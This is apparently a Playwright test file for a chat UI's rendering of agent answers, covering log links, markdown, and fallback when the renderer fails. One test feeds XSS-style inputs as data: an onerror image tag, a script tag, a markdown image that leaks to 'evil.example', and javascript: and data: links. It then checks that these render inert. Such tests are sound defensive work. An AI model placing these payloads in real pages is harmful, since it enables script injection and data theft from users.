import { expect, test } from './chat-page.ts';
import { words } from './scripted-answers.ts';
import { logPath } from './tool-outputs.ts';

const name = logPath.slice(logPath.lastIndexOf('/') + 1);

test('evidence in an answer is a real link to its lines', async ({ page, chat, answers }) => {
  answers.add({ chunks: words(`It stands in [the log](/a/${name}#L120-L140).`) });
  await page.goto('/');
  await chat.ask('Where?');
  const link = page.getByRole('link', { name: 'the log' });
  await expect(link).toBeVisible();
  await expect(link).toHaveAttribute('href', `/a/${name}?chat=${answers.sent[0]?.body.id}#L120-L140`);
});

test('an answer is markdown', async ({ page, chat, answers }) => {
  answers.add({ chunks: words('**Bold**\n\n1. one\n2. two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```\ncode\n```') });
  await page.goto('/');
  await chat.ask('Show');
  const answer = page.getByRole('article', { name: 'Agent', exact: true });
  await expect(answer.locator('strong')).toHaveText('Bold');
  await expect(answer.getByRole('listitem')).toHaveText(['one', 'two']);
  await expect(answer.getByRole('cell', { name: '2' })).toBeVisible();
  await expect(answer.locator('pre')).toHaveText('code');
});

test('HTML is shown as text, images as their descriptions, and links that run code as text', async ({
  page,
  chat,
  answers,
}) => {
  const text = [
    '<img src=x onerror="document.title = 1"><script>document.title = 2</script>',
    '![secret](https://evil.example/?leak=1)',
    '[run](javascript:document.title=3) [data](data:text/html,x) [other](//evil.example)',
  ].join('\n\n');
  answers.add({ chunks: words(text) });
  await page.goto('/');
  const title = await page.title();
  await chat.ask('Show');

  const answer = page.getByRole('article', { name: 'Agent', exact: true });
  // Until the renderer is there the words stand as they are: only what it draws is looked at.
  await expect(answer.getByText('[secret]', { exact: true })).toBeVisible();
  await expect(answer).toContainText('onerror');
  await expect(answer.locator('img, script')).toHaveCount(0);
  await expect(answer.getByRole('link')).toHaveCount(0);
  expect(await page.title()).toBe(title);
});

test('an answer is readable when its renderer cannot be loaded', async ({ page, chat, answers }) => {
  await page.goto('/');
  await page.route('**/_next/static/**', async (route) => {
    const response = await route.fetch();
    const isRenderer = (await response.text()).includes('streamdown');
    await (isRenderer ? route.abort() : route.fulfill({ response }));
  });
  answers.add({ chunks: words('**Bold** words.') });
  await chat.ask('Show');
  await expect(page.getByText('**Bold** words.')).toBeVisible();
  await expect(chat.composer).toBeVisible();
  // A script that is still on its way would end with the page, as an error in the handler above.
  await page.unrouteAll({ behavior: 'wait' });
});

test.use({ expectedErrors: [/ERR_FAILED/] });
